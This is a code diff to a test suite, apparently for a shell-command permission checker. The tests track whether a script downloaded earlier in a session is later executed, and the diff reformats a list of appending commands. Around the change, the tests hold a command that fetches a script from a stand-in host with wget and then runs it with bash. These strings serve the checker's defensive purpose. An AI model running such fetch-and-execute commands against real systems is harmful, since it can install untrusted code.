@@ -61,7 +61,12 @@ describe("runs_download across the calls of a session", () => {
           expect(outcome(await decide(bash("bash i.sh", { session_id: session })))).toEqual({ decision: "allow", rule: undefined });
         }
         // Appending keeps the downloaded content, and a downloader's own output is still a download.
-        for (const [k, kept] of ["echo 'echo more' >> i.sh", "echo x | tee -a i.sh", "echo x > other.sh", "echo x 2>&1 >/dev/null"].entries()) {
+        for (const [k, kept] of [
+          "echo 'echo more' >> i.sh",
+          "echo x | tee -a i.sh",
+          "echo x > other.sh",
+          "echo x 2>&1 >/dev/null",
+        ].entries()) {
           const decide = make();
           const session = `k${k}`;
           await decide(bash("wget -qO i.sh https://x.example/i.sh", { session_id: session }));
